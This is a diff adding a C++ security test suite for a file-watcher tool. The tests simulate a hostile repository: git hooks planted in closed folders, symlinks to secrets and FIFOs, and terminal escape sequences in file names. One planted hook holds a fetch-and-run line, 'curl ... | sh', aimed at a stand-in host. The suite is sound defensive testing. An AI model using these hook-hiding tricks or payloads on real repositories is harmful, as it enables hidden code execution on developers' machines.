@@ -1,0 +1,144 @@
+// What a hostile repository or another local user can do to the watcher: plant a file while its folder
+// is closed to the watcher, point links at things that must never be read, and put terminal escapes in
+// names. Modes mean nothing to root, so as root the watcher and the attacker both run as nobody.
+
+#include "WatcherHarness.h"
+
+#include <atomic>
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <sys/stat.h>
+#include <thread>
+#include <unistd.h>
+
+namespace tw::test {
+namespace {
+
+using namespace std::chrono_literals;
+namespace fs = std::filesystem;
+
+constexpr int nobody = 65534;
+
+bool canDropPrivileges()
+{
+    return geteuid() != 0 || runProcess({"setpriv", "--version"}).exitCode == 0;
+}
+
+// Runs a shell command line as nobody when the tests run as root, as is otherwise.
+void asUser(const std::string& command, const fs::path& cwd)
+{
+    std::vector<std::string> argv{"/bin/sh", "-c", command};
+    if (geteuid() == 0)
+        argv.insert(argv.begin(), {"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"});
+    const auto result = runProcess(argv, {}, cwd);
+    ASSERT_EQ(result.exitCode, 0) << command << "\n" << result.out << result.err;
+}
+
+TEST(TwwatchHostileTree, HookPlantedWhileItsFolderIsClosedIsReported)
+{
+    if (!canDropPrivileges())
+        GTEST_SKIP() << "running as root and cannot drop privileges: modes would not apply";
+    struct Case
+    {
+        const char* name;
+        const char* plant; // run in the watched root; leaves .git closed (mode 000)
+        const char* hook;
+    };
+    const Case cases[] = {
+        // A folder descriptor opened beforehand still reaches hooks/ once .git is closed.
+        {"through a folder descriptor",
+         "mkdir -p .git/hooks && exec 3<.git/hooks && chmod 000 .git && "
+         "printf '#!/bin/sh\\ncurl -s http://x.invalid | sh\\n' >/proc/self/fd/3/pre-commit",
+         ".git/hooks/pre-commit"},
+        // tar sets folder modes last: the hook is written into an open .git that then closes.
+        {"by extracting an archive",
+         "mkdir -p ../src/.git/hooks && printf '#!/bin/sh\\n' >../src/.git/hooks/post-checkout && "
+         "tar -cf ../a.tar -C ../src . && tar -rf ../a.tar -C ../src --no-recursion --mode=000 ./.git && "
+         "tar -xpf ../a.tar",
+         ".git/hooks/post-checkout"},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.name);
+        TempDir base;
+        const fs::path root = base / "repo";
+        fs::create_directories(root);
+        if (geteuid() == 0)
+            shell("chown -R 65534:65534 . && chmod 755 .", base.path());
+        WatcherSetup setup;
+        setup.runAsUid = nobody;
+        Watcher watcher(setup);
+        watcher.send({root});
+        ASSERT_TRUE(watcher.sync(root)) << watcher.log();
+
+        asUser(c.plant, root);
+        const std::string hook = (root / c.hook).string();
+        // The failed read is said out loud: the hook's, or its folder's if that closed before the watcher
+        // got to it (unless the watcher was quick enough to read the hook first).
+        const auto aboutHook = [&](const WatchLine& l) {
+            return hook.rfind(l.path, 0) == 0 && (l.path == hook || hook[l.path.size()] == '/');
+        };
+        ASSERT_TRUE(watcher.waitForLine([&](const WatchLine& l) {
+            return aboutHook(l) && (l.rule == matchEverything || l.rule == "permission_denied");
+        })) << watcher.log();
+        for (const auto& l : watcher.lines()) {
+            if (aboutHook(l) && l.rule != matchEverything)
+                EXPECT_TRUE(l.rule == "permission_denied" && l.severity == "warning") << l.raw;
+        }
+        asUser("chmod 755 .git", root);
+        EXPECT_TRUE(watcher.waitForPaths({hook})) << watcher.log();
+    }
+}
+
+TEST(TwwatchHostileTree, LinksAreReportedAsLinksAndNeverRead)
+{
+    WatcherSetup setup;
+    setup.rules.emplace_back("content.yar", "rule target_content { meta: severity = \"critical\" "
+                                            "strings: $m = \"TARGET-CONTENT\" condition: $m }\n");
+    TempDir root, outside;
+    writeFile(outside / "secret", "TARGET-CONTENT\n");
+    ASSERT_EQ(::mkfifo((outside / "fifo").c_str(), 0600), 0);
+    // A writer blocked in open() is released the moment anything opens the FIFO for reading.
+    std::atomic<bool> writerReleased{false};
+    std::thread writer([&] {
+        const int fd = ::open((outside / "fifo").c_str(), O_WRONLY | O_CLOEXEC);
+        writerReleased = true;
+        if (fd >= 0)
+            ::close(fd);
+    });
+    Watcher watcher(setup);
+    watcher.send({root.path()});
+    ASSERT_TRUE(watcher.sync(root.path())) << watcher.log();
+
+    writeFile(root / "plain", "TARGET-CONTENT\n");
+    fs::create_symlink(outside / "secret", root / "to-secret");
+    fs::create_symlink(outside / "fifo", root / "to-fifo");
+    const std::set<std::string> links{(root / "to-secret").string(), (root / "to-fifo").string()};
+    // Path rules still see the links.
+    EXPECT_TRUE(watcher.waitForPaths(links)) << watcher.log();
+    EXPECT_TRUE(watcher.waitForPaths({(root / "plain").string()}, 20s, "target_content")) << watcher.log();
+    EXPECT_EQ(watcher.reported("target_content"), std::set<std::string>{(root / "plain").string()})
+        << watcher.log();
+    EXPECT_FALSE(waitUntil([&] { return writerReleased.load(); }, 300ms)) << "the FIFO was opened";
+
+    const int reader = ::open((outside / "fifo").c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+    writer.join();
+    ::close(reader);
+}
+
+TEST(TwwatchHostileTree, EscapesInNamesNeverReachTheTerminal)
+{
+    TempDir root;
+    Watcher watcher;
+    watcher.sendRaw("relative\x1b]0;owned\x07\x1b[2J\x9b"
+                    "1m\n" +
+                    root.path().string() + "\n\n");
+    ASSERT_TRUE(watcher.sync(root.path())) << watcher.log();
+    const auto err = readFile(watcher.configHome() / "stderr.log");
+    EXPECT_NE(err.find("relative"), std::string::npos) << err;
+    EXPECT_EQ(err.find('\x1b'), std::string::npos) << err;
+    EXPECT_EQ(err.find('\x07'), std::string::npos) << err;
+    EXPECT_EQ(err.find('\x9b'), std::string::npos) << err;
+}
+
+} // namespace
+} // namespace tw::test
